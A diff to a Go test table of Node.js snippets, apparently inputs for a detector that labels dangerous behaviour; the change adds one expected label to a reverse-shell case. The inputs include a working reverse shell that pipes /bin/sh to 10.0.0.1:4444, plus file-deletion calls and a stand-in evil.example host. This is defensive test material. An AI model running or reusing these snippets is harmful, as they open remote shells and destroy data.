@@ -46,7 +46,7 @@ var nodeCases = []testCase{
 		is("net-out evil.example:80/x")},
 	{"var net=require('net'),sh=require('child_process').spawn('/bin/sh',[]);var c=new net.Socket();" +
 		"c.connect(4444,'10.0.0.1',function(){c.pipe(sh.stdin);sh.stdout.pipe(c)})", is("argv [/bin/sh]", "exec /bin/sh "+
-		"from network", "net-in 10.0.0.1:4444", "shell …")},
+		"from network", "net-in 10.0.0.1:4444", "net-out … from network+file", "shell …")},
 	{`require('vm').runInNewContext('x', {x: 1}); setTimeout("require('fs').rmSync('/x')", 1)`,
 		is("code x", "code require('fs').rmSync('/x')", "delete /x")},
 	{"const fs = require('fs').promises; async function f(p) { await fs.rm(p, {recursive: true}) } f('/x')",
